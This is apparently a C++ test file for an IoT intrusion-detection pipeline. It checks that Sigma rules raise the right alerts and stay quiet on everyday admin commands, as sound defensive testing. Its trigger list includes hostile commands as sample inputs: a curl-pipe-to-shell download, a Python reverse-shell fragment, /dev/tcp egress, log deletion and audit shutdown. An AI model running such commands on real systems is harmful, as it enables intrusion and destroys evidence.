// Rules of the program's pack and of operators, run over events; what their alerts carry.
#include <filesystem>
#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

#include "hub_words.h"
#include "pipeline/rules.h"
#include "pipeline_harness.h"
#include "rules/rule_pack.h"

namespace picket::pipeline {
namespace {

bool raises(const TestEvent& event, std::string_view type) {
  EngineHarness pipeline;
  pipeline.feed({event}, event.time);
  return !pipeline.alerts(type).empty();
}

TEST(RulePack, OwnRulesCanAllBeUsedAndNameAlertsOfTheCatalogue) {
  const auto pack = RulePack::make({}, {}, Catalogue::builtin());
  for (const sigma::Complaint& complaint : pack->complaints()) ADD_FAILURE() << to_string(complaint);
  EXPECT_GE(pack->rules().rules().size(), 40u);
  for (std::size_t i = 0; i < pack->rules().rules().size(); ++i) {
    const RuleAlert& alert = pack->alert_of_rule(static_cast<sigma::RuleIndex>(i));
    EXPECT_FALSE(alert.head->alert.empty()) << alert.head->title;
    ASSERT_NE(Catalogue::builtin().find(alert.head->alert), nullptr) << alert.head->title;
    EXPECT_EQ(alert.info->type, Catalogue::builtin().find(alert.head->alert)->type) << alert.head->title;
    EXPECT_TRUE(alert.own);
  }
}

TEST(RulePack, EveryAlertOfTheAgentsHasARuleOrADetector) {
  // What detectors raise without a rule of the pack.
  static const std::vector<std::string> kByBehaviour = {"IoT_BruteForceFailed",
                                                        "IoT_BruteForceSuccess",
                                                        "IoT_SelfTest",
                                                        "IoT_DeviceSilent",
                                                        "IoT_LocalUserAddedToGroup",
                                                        "IoT_LocalUserRemovedFromGroup",
                                                        "IoT_LocalUserDeleted",
                                                        "IoT_TwinConfigurationParseFailure"};
  const auto pack = RulePack::make({}, {}, Catalogue::builtin());
  std::vector<std::string> ruled;
  for (const sigma::LinkedRule& rule : pack->rules().rules()) ruled.push_back(rule.head.alert);
  static constexpr std::string_view kPublished[] = {"IoT_BinaryCommandLine",
                                                    "IoT_DisableFirewall",
                                                    "IoT_PortForwarding",
                                                    "IoT_DisableAuditdLogging",
                                                    "IoT_ReverseShell",
                                                    "IoT_SucessfulLocalLogin",
                                                    "IoT_WebShell",
                                                    "IoT_Ransomware",
                                                    "IoT_CryptoMiner",
                                                    "IoT_USBConnection",
                                                    "IoT_UsbDisconnection",
                                                    "IoT_EthernetConnection",
                                                    "IoT_EthernetDisconnection",
                                                    "IoT_FileCreated",
                                                    "IoT_FileModified",
                                                    "IoT_FileDeleted",
                                                    "IoT_CommonBots",
                                                    "IoT_FairwareMalware",
                                                    "IoT_CryptoMinerContainer",
                                                    "IoT_SuspiciousNohup",
                                                    "IoT_SuspiciousUseradd",
                                                    "IoT_ExposedDocker",
                                                    "IoT_FailedLocalLogin",
                                                    "IoT_PossibleMalware",
                                                    "IoT_AccessingHtaccessFile",
                                                    "IoT_KnownAttackTools",
                                                    "IoT_LinuxReconnaissance",
                                                    "IoT_ScriptInterpreterMismatch",
                                                    "IoT_LinuxBackdoor",
                                                    "IoT_EgressData",
                                                    "IoT_PrivilegedContainer",
                                                    "IoT_RemovelOfSystemLogs",
                                                    "IoT_ExecuteFileWithTrailingSpace",
                                                    "IoT_CredentialAccessTools",
                                                    "IoT_SuspiciousCompilation",
                                                    "IoT_DownloadFileThenRun",
                                                    "IoT_ClearHistoryFile",
                                                    "IoT_OverrideLinuxFiles"};
  for (const std::string_view type : kPublished) {
    EXPECT_NE(std::ranges::find(ruled, type), ruled.end()) << type;
    EXPECT_NE(Catalogue::builtin().find(type), nullptr) << type;
  }
  for (const std::string& type : kByBehaviour) EXPECT_NE(Catalogue::builtin().find(type), nullptr) << type;
}

TEST(SigmaRules, PublishedTriggersRaiseTheirAlerts) {
  const std::vector<std::pair<std::string, std::string>> triggers = {
      {"useradd aaa -g 0", "IoT_SuspiciousUseradd"},
      {"docker run redis --privileged", "IoT_PrivilegedContainer"},
      {"service auditd stop", "IoT_DisableAuditdLogging"},
      {"nohup cat /tmp", "IoT_SuspiciousNohup"},
      {"rm /var/log/lastlog", "IoT_RemovelOfSystemLogs"},
      {"touch test.GNNCRY", "IoT_Ransomware"},
      {"cp /bin/netstat a", "IoT_OverrideLinuxFiles"},
      {"touch d-bus notifier", "IoT_LinuxBackdoor"},
      {"rm -rf /data/", "IoT_FairwareMalware"},
      {"bash /dev/tcp/", "IoT_EgressData"},
      {"touch f0VMRgIBAQ", "IoT_BinaryCommandLine"},
      {"touch RTEGFN01.dat", "IoT_CommonBots"},
      {"sh -c curl http://198.51.100.1/a | sh", "IoT_DownloadFileThenRun"},
      {"git clone https://example.org/x/cpuminer", "IoT_CryptoMiner"},
      {"curl pastebin.com", "IoT_PossibleMalware"},
      {"uname -n -s -r -v", "IoT_LinuxReconnaissance"},
      {"bash -c history -c", "IoT_ClearHistoryFile"},
      {"python3 -c import socket,subprocess;s=socket.socket();subprocess.call(['/bin/sh','-i'])", "IoT_ReverseShell"},
  };
  for (const auto& [line, type] : triggers) {
    const std::string program = line.substr(0, line.find(' '));
    EXPECT_TRUE(raises(process("/usr/bin/" + program, line), type)) << line;
    EXPECT_TRUE(raises(process("/bin/busybox", line), type)) << line << " as an applet";
  }
}

TEST(SigmaRules, EverydayCommandsDisturbNobody) {
  for (const char* const line : {"apt-get install -y nftables",
                                 "systemctl restart nftables",
                                 "nft -f /etc/nftables.conf",
                                 "iptables -L",
                                 "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
                                 "ssh -o Port=22 user@host ls",
                                 "ssh -p 2222 root@h",
                                 "curl -fsSL https://deb.debian.org/debian/dists/stable/Release",
                                 "wget -q https://example.org/x.tar.gz",
                                 "python3 setup.py install",
                                 "sh -c cd /src && make -j2",
                                 "gcc -O2 -c -o foo.o foo.c",
                                 "rm -f /var/log/syslog.7.gz",
                                 "rm -rf /home/user/project/build",
                                 "rm -rf /var/lib/apt/lists/partial",
                                 "useradd -r -s /usr/sbin/nologin picket",
                                 "usermod -aG dialout user",
                                 "docker run --rm alpine ls",
                                 "uname -a",
                                 "cat /etc/passwd",
                                 "systemctl status auditd",
                                 "nohup /opt/app/server",
                                 "dpkg --configure -a",
                                 "tar czf /backup/etc.tgz /etc",
                                 "rsync -a /home/ backup:/home/",
                                 "logrotate /etc/logrotate.conf",
                                 "cp /bin/busybox /tmp/initrd/bin/busybox",
                                 "journalctl --vacuum-time=2d",
                                 "nc -z host 22",
                                 "busybox ls",
                                 "/lib64/ld-linux-x86-64.so.2 --verify /bin/ls",
                                 "ssh-keygen -t ed25519",
                                 "chmod +x script.sh",
                                 "grep -rn xmrig --donate-level /etc",
                                 "git commit -m curl http://x | sh is found now"}) {
    const std::string text = line;
    EngineHarness pipeline;
    pipeline.feed({process("/usr/bin/" + text.substr(0, text.find(' ')), text)});
    // What every administrator does now and then is kept as Informational, for chains; it disturbs nobody.
    for (const AlertChange& alert : pipeline.alerts()) {
      EXPECT_EQ(alert.severity, "Informational") << line << " raised " << alert.alert_type;
    }
  }
}

TEST(SigmaRules, LoginsHardwareAndFilesHaveTheirAlerts) {
  EXPECT_TRUE(raises(good_login(noon(0)), "IoT_SucessfulLocalLogin"));
  EXPECT_TRUE(raises(failed_login(noon(0)), "IoT_FailedLocalLogin"));
  EXPECT_TRUE(raises({"Peripheral", {{"PeripheralType", "Usb"}, {"ActionType", "Connected"}}, noon(0), ""},
                     "IoT_USBConnection"));
  EXPECT_TRUE(raises({"Peripheral", {{"PeripheralType", "Ethernet"}, {"ActionType", "Disconnected"}}, noon(0), ""},
                     "IoT_EthernetDisconnection"));
  EXPECT_TRUE(raises({"FileSystem", {{"Path", "/etc/x"}, {"Mask", "Created"}}, noon(0), ""}, "IoT_FileCreated"));
  EXPECT_TRUE(raises({"FileSystem", {{"Path", "/etc/x"}, {"Mask", "Modified"}}, noon(0), ""}, "IoT_FileModified"));
  EXPECT_TRUE(raises({"FileSystem", {{"Path", "/etc/x"}, {"Mask", "Deleted"}}, noon(0), ""}, "IoT_FileDeleted"));
  EXPECT_TRUE(raises({"ListeningPorts", {{"LocalPort", "2375"}, {"LocalAddress", "0.0.0.0"}}, noon(0), ""},
                     "IoT_ExposedDocker"));
  EXPECT_FALSE(raises({"ListeningPorts", {{"LocalPort", "2375"}, {"LocalAddress", "127.0.0.1"}}, noon(0), ""},
                      "IoT_ExposedDocker"));
}

constexpr const char* kForeign = R"(title: Foreign Rule
id: 11111111-2222-4333-8444-555555555555
author: Somebody Else
license: DRL-1.1
references:
  - https://example.org/why
tags:
  - attack.defense-impairment
  - attack.t1685.004
logsource: {category: process_creation, product: linux}
detection:
  selection: {CommandLine|contains: foreignword}
  condition: selection
level: medium
)";

TestRecord rule_set(const std::string& name, const std::string& yaml, Timestamp time) {
  JsonWriter text;
  text.value(yaml);
  return {.body = R"({"actor":"alice","source":"198.51.100.4","hub":"hub","object":")" + name + R"(","rules":)" +
                  text.text() + "}",
          .enqueued = time,
          .identity = {"hub", "", "", ""},
          .properties = {{"kind", "rule.set"}},
          .kind = journal::RecordKind::audit};
}

TEST(SigmaRules, OperatorsRulesNameTheirAuthorsAndSurviveARestart) {
  EngineHarness pipeline;
  const auto seen = [&](int second) {
    pipeline.feed({process("/bin/echo", "echo foreignword " + std::to_string(second), {}, noon(second))}, noon(second));
    return pipeline.alerts("Sigma_11111111-2222-4333-8444-555555555555");
  };
  EXPECT_TRUE(seen(0).empty());
  pipeline.feed(rule_set("mine.yml", kForeign, noon(1)));
  ASSERT_EQ(seen(2).size(), 1u);
  const AlertChange alert = seen(2)[0];
  EXPECT_EQ(alert.display_name, "Foreign Rule");
  EXPECT_EQ(alert.severity, "Medium");
  EXPECT_EQ(alert.tactics, std::vector<std::string>{"DefenseImpairment"});
  EXPECT_EQ(alert.sub_techniques, std::vector<std::string>{"T1685.004"});
  EXPECT_EQ(property_of(alert, "rule.author"), "Somebody Else");
  EXPECT_EQ(property_of(alert, "rule.license"), "DRL-1.1");
  EXPECT_EQ(property_of(alert, "rule.reference"), "https://example.org/why");
  pipeline.restart();
  EXPECT_EQ(seen(3).size(), 2u) << "another command line: another alert";
}

TEST(SigmaRules, SingleRulesAreSwitchedOff) {
  EngineHarness pipeline;
  const auto pack = RulePack::make({}, {}, Catalogue::builtin());
  std::string id;
  for (const sigma::LinkedRule& rule : pack->rules().rules()) {
    if (rule.head.alert == "IoT_FairwareMalware") id = rule.head.id;
  }
  pipeline.feed(audit("rule.set", {{"object", id}, {"enabled", "false"}}, noon(0)));
  pipeline.feed({process("/bin/rm", "rm -rf /data/", {}, noon(1))}, noon(1));
  EXPECT_TRUE(pipeline.alerts("IoT_FairwareMalware").empty());
  pipeline.feed(audit("rule.set", {{"object", id}, {"enabled", "true"}}, noon(2)));
  pipeline.feed({process("/bin/rm", "rm -rf /data/", {}, noon(3))}, noon(3));
  EXPECT_EQ(pipeline.alerts("IoT_FairwareMalware").size(), 1u);
}

constexpr const char* kCorrelation = R"(title: Many of Them
id: 22222222-2222-4333-8444-555555555555
name: one
logsource: {category: process_creation, product: linux}
detection:
  selection: {CommandLine|contains: countedword}
  condition: selection
level: low
---
title: Three Within a Minute
id: 33333333-2222-4333-8444-555555555555
correlation:
  type: event_count
  rules: [one]
  group-by: [User]
  timespan: 1m
  condition: {gte: 3}
level: high
)";

TEST(SigmaRules, CorrelationsCountPerDeviceAndOverARestart) {
  EngineHarness pipeline;
  pipeline.feed(rule_set("count.yml", kCorrelation, noon(0)));
  const auto feed = [&](int second, const std::string& device) {
    TestRecord record{.body = message_json({process("/bin/x", "countedword " + std::to_string(second),
                                                    {{"UserName", "op"}}, noon(second))}),
                      .enqueued = noon(second)};
    record.identity.device_id = device;
    pipeline.feed(record);
  };
  feed(1, "a");
  feed(2, "b");
  feed(3, "a");
  EXPECT_TRUE(pipeline.alerts("Sigma_33333333-2222-4333-8444-555555555555").empty());
  pipeline.restart();
  feed(4, "a");
  const auto alerts = pipeline.alerts("Sigma_33333333-2222-4333-8444-555555555555");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].device.device_id, "a");
  EXPECT_EQ(property_of(alerts[0], "User"), "op");
  EXPECT_EQ(property_of(alerts[0], "event_count"), "3");
  EXPECT_TRUE(pipeline.alerts("Sigma_22222222-2222-4333-8444-555555555555").empty()) << "no generate";
}

TEST(SigmaRules, ANoisyRuleIsThrottledVisibly) {
  EngineHarness pipeline;
  for (int i = 0; i < 260; ++i) {
    pipeline.feed({process("/bin/rm", "rm -rf /data/" + std::string(" ") + std::to_string(i), {}, noon(i))}, noon(i));
  }
  const auto alerts = pipeline.alerts("IoT_FairwareMalware");
  EXPECT_EQ(alerts.size(), 201u);
  EXPECT_EQ(std::ranges::count_if(alerts, [](const auto& one) { return !property_of(one, "Throttled").empty(); }), 1);
}

std::string text_of(const std::filesystem::path& path) {
  std::ostringstream out;
  out << std::ifstream(path).rdbuf();
  return out.str();
}

TEST(RuleExamples, RecordedExecutionsAreJudgedAsTheySay) {
  std::size_t positive = 0;
  std::size_t negative = 0;
  for (const auto& entry : std::filesystem::directory_iterator(PICKET_SOURCE_DIR "/content/rules")) {
    const auto examples = entry.path() / "examples.jsonl";
    if (!std::filesystem::exists(examples)) continue;
    const RuleText rule{entry.path().filename().string(), text_of(entry.path() / "rule.yml")};
    for (const ExampleResult& result : try_examples(rule, text_of(examples))) {
      EXPECT_EQ(result.problem, "") << rule.name << " line " << result.line;
      EXPECT_EQ(result.matched, result.expected) << rule.name << " line " << result.line;
      ++(result.expected ? positive : negative);
    }
  }
  EXPECT_GE(positive, 58u);
  EXPECT_GE(negative, 58u);
}

TEST(RuleExamples, LinesThatCannotBeUsedAreNamed) {
  const auto results =
      try_examples({"x", kForeign},
                   "nonsense\n\n{\"event\":\"ProcessCreate\",\"payload\":3,\"match\":true}\n"
                   R"({"event":"ProcessCreate","payload":{"CommandLine":"a foreignword"},"match":true})");
  ASSERT_EQ(results.size(), 3u);
  EXPECT_FALSE(results[0].problem.empty());
  EXPECT_FALSE(results[1].problem.empty());
  EXPECT_EQ(results[1].line, 3u);
  EXPECT_TRUE(results[2].problem.empty());
  EXPECT_TRUE(results[2].matched);
}

TEST(RuleListing, TellsWhatIsInForceAndWhatCannotBe) {
  const auto all =
      list_rules({{"a.yml", kForeign}, {"b.yml", "title: broken"}}, {"11111111-2222-4333-8444-555555555555"});
  const auto foreign = std::ranges::find(all.rules, "Foreign Rule", &RuleListing::title);
  ASSERT_NE(foreign, all.rules.end());
  EXPECT_FALSE(foreign->enabled);
  EXPECT_FALSE(foreign->own);
  EXPECT_EQ(foreign->file, "a.yml");
  EXPECT_EQ(foreign->log_source, "process_creation/linux");
  ASSERT_EQ(all.complaints.size(), 1u);
  EXPECT_TRUE(all.complaints[0].starts_with("b.yml line 1"));
  EXPECT_EQ(check_rules({"b.yml", "title: broken"}).documents, 0u);
}

}  // namespace
}  // namespace picket::pipeline
